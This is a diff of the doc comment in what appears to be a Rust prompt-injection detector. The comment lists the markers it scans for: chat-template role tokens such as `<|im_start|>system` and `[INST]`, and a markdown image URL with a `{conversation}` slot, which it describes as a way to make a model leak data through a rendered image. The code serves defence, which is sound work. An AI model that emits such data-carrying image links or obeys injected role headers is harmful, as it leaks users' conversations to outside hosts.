@@ -1,7 +1,8 @@
-//! Markers made of punctuation rather than words: chat-template tokens and role headers
-//! (`<|im_start|>system`, `[INST]`, `### System:`), and links or markdown images whose URL has
-//! a slot for data to be filled in (`![](https://x.example/?q={conversation})`), the usual way
-//! to make a model leak through a rendered image.
+//! Markers made of punctuation rather than words: chat-template tokens and role headers, and
+//! URLs with a slot for data to be filled in.
+//!
+//! `<|im_start|>system`, `[INST]`, `### System:`; `![](https://x.example/?q={conversation})`,
+//! the usual way to make a model leak through an image the client renders.
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 
